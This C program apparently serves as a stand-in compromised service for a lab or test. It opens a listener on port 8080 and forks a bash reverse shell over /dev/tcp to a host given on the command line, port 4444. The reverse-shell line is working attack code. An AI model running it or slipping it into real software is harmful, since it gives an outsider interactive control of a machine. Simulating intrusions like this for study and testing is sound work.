/* A service with a hole in it: a stranger's request makes it run a shell on a connection to argv[1], as
   command injection into a web application does.  Whoever listens there (intruder.py) types what follows.
   It stands for every program that was broken into, and has nothing of its own to protect. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PORT = 8080 };

static void listens(void) {
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  int fd = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
  if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes)) abort();
  if (bind(fd, (struct sockaddr *)&at, sizeof at) || listen(fd, 1)) abort();
}

int main(int argc, char **argv) {
  char injected[200];
  listens();
  const char *intruder = argc > 1 ? argv[1] : "127.0.0.1";
  snprintf(injected, sizeof injected, "exec bash -i > /dev/tcp/%s/4444 2>&1 0>&1", intruder);
  if (fork() == 0) {
    execlp("bash", "bash", "-c", injected, (char *)NULL);
    _exit(1);
  }
  puts("ready");
  fflush(stdout);
  for (;;) pause();
}
